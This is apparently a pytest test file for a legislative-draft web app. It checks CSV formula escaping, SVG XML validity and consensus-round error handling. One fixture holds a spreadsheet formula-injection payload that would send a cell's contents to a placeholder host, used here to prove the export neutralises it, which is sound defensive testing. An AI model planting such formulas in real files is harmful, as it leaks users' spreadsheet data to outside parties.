"""The consensus CSV and SVG carry any heading safely: no formula runs, the XML stays valid."""

import csv
import io

import pytest
from fastapi.testclient import TestClient
from lxml import etree
from sqlmodel import Session

from app.drafts import editing
from app.drafts.models import Draft
from tests.factories import make_draft, make_member, uid_of

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Ver")'


@pytest.fixture
def draft(db: Session) -> Draft:
    return make_draft(db)


def rename(db: Session, draft: Draft, label: str, heading: str) -> None:
    secretariat = make_member(db, role="secretariat")
    text = "La presente Ley tiene por objeto promover la formalización."
    editing.revise(
        db,
        secretariat,
        draft,
        uid=uid_of(db, draft, label),
        expected_version=1,
        text=text,
        heading=heading,
        reason="Prueba",
    )
    db.commit()


class TestConsensusCsv:
    @pytest.mark.parametrize("start", ["=", "+", "-", "@"])
    def test_a_heading_that_looks_like_a_formula_is_text(
        self, client: TestClient, db: Session, draft: Draft, start: str
    ) -> None:
        rename(db, draft, "Artículo 1.", start + FORMULA[1:])
        response = client.get("/drafts/ley-de-prueba/consensus.csv")
        rows = list(csv.reader(io.StringIO(response.text)))
        headings = {row[1]: row[2] for row in rows[1:]}
        assert headings["Artículo 1."] == "'" + start + FORMULA[1:]
        assert headings["Artículo 2."] == "Ámbito"  # ordinary cells are untouched


class TestConsensusSvg:
    def test_a_heading_with_characters_xml_forbids_still_gives_a_valid_map(
        self, client: TestClient, db: Session, draft: Draft
    ) -> None:
        rename(db, draft, "Artículo 1.", "Objeto\uffff de la \ufffeLey")
        response = client.get("/drafts/ley-de-prueba/consensus.svg")
        assert response.status_code == 200
        root = etree.fromstring(response.content)  # raises on invalid XML
        titles = [t.text or "" for t in root.iter("{http://www.w3.org/2000/svg}title")]
        assert any(title.startswith("Artículo 1. Objeto de la Ley") for title in titles)


def test_closing_a_closed_round_says_so_on_the_round_page(client: TestClient, db: Session) -> None:
    from datetime import timedelta

    from app.consensus import rounds
    from app.core.models import utcnow
    from tests.factories import entry_of, make_draft, make_member, post_form, sign_in

    draft = make_draft(db)
    secretariat = make_member(db, role="secretariat")
    round_ = rounds.open_round(
        db, secretariat, draft, title="Ronda 1", deadline=utcnow() + timedelta(days=1),
        uids=[entry_of(db, draft, "Artículo 1.").uid],
    )  # fmt: skip
    db.commit()
    sign_in(client, secretariat)
    url = f"/drafts/{draft.slug}/rounds/{round_.id}/close"
    assert post_form(client, url).status_code == 303
    again = post_form(client, url)
    assert again.status_code == 409
    assert "Ronda 1" in again.text and 'role="alert"' in again.text


def test_a_refused_round_keeps_what_was_typed(client: TestClient, db: Session) -> None:
    from tests.factories import post_form, sign_in

    draft = make_draft(db)
    sign_in(client, make_member(db, role="secretariat"))
    uid = uid_of(db, draft, "Artículo 2.")
    response = post_form(
        client,
        f"/drafts/{draft.slug}/rounds",
        {"title": "Ronda sobre el registro", "deadline": "2020-01-01T10:00", "clauses": uid},
    )
    assert response.status_code == 422
    assert 'value="Ronda sobre el registro"' in response.text
    assert f'value="{uid}" checked' in response.text and 'role="alert"' in response.text
